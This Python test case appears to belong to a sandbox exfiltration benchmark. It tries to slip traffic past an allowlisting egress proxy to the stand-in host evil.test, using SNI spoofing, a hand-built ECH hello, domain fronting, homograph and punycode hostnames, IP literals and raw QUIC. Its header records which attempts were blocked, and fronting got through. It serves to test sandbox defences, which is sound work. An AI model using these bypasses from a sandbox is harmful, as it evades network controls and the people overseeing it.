# Reaches another host under the name of an allowed one, or an allowed one in a way that no rule names.
# ---
# probe = "SNI spoof, fronting, no SNI, ECH, QUIC, IP literal, IDN"
# class = "SandboxBench exfiltration"
#
# [[case]]
# tool = "attack.proxied"
# observed."right" = "SENT0"
# observed."case" = "SENT0"
# observed."trailing dot" = "SENT0"
# observed."sni of another" = "ALERT"
# observed."no sni" = "ALERT"
# observed."ech" = "ALERT"
# observed."no tls" = "ALERT"
# observed."fronting" = 200
# observed."other port" = 403
# observed."no port" = 403
# observed."ip literal" = 403
# observed."idn" = 403
# observed."punycode" = 403
# observed."longer" = 403
# observed."prefix" = 403
# observed."label below" = 403
# observed."two below wild" = 403
# observed."wild itself" = 403
# observed."userinfo" = 403
# observed."https by get" = 403
# observed."quic" = "ENETUNREACH|EHOSTUNREACH"
# ---
import socket
import ssl


def hello(name):
    context = ssl.create_default_context()
    context.check_hostname = False
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(incoming, outgoing, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def with_ech(record):
    """The same hello with an encrypted one in it: one more extension, all lengths grown."""
    extension = b"\xfe\x0d\0\4\0\0\0\0"
    at = 5 + 4 + 34
    at += 1 + record[at]
    at += 2 + int.from_bytes(record[at:at + 2], "big")
    at += 1 + record[at]
    more = len(extension)

    def grown(place, width):
        value = int.from_bytes(record[place:place + width], "big") + more
        return value.to_bytes(width, "big")

    return (record[:3] + grown(3, 2) + record[5:6] + grown(6, 3) + record[9:at] + grown(at, 2)
            + record[at + 2:] + extension)


def quic():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(b"\xc0" + bytes(1199), ("93.184.216.34", 443))


HOST = "allowed.test"
observed["right"] = tunnel(f"{HOST}:443", hello(HOST))
observed["case"] = tunnel("Allowed.TEST:443", hello(HOST))
observed["trailing dot"] = tunnel(f"{HOST}.:443", hello(HOST))
observed["sni of another"] = tunnel(f"{HOST}:443", hello("evil.test"))
observed["no sni"] = tunnel(f"{HOST}:443", hello(None))
observed["ech"] = tunnel(f"{HOST}:443", with_ech(hello(HOST)))
observed["no tls"] = tunnel(f"{HOST}:443", b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")
observed["fronting"] = get(HOST, name="evil.test")
observed["other port"] = tunnel(f"{HOST}:22", b"x")
observed["no port"] = tunnel(HOST, b"x")
observed["ip literal"] = tunnel("93.184.216.34:443", hello(HOST))
observed["idn"] = tunnel("\u0430llowed.test:443", hello(HOST))
observed["punycode"] = tunnel("xn--llowed-2of.test:443", hello(HOST))
observed["longer"] = tunnel(f"{HOST}.evil.test:443", hello(HOST))
observed["prefix"] = tunnel(f"not{HOST}:443", hello(HOST))
observed["label below"] = tunnel(f"x.{HOST}:443", hello(HOST))
observed["two below wild"] = get("a.b.wild.test")
observed["wild itself"] = get("wild.test")
observed["userinfo"] = get(f"evil.test@{HOST}")
observed["https by get"] = ask_gate(
    b"GET https://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n")
attempt("quic", quic)
tell()
